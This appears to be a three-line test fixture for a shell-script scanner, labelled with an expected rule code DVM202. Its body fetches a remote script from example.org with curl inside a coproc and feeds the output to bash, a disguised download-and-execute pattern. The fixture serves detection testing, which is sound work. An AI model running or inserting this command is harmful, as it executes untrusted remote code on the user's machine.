# expect: DVM202
coproc curl -s https://example.org/i.sh
bash <&"${COPROC[0]}"
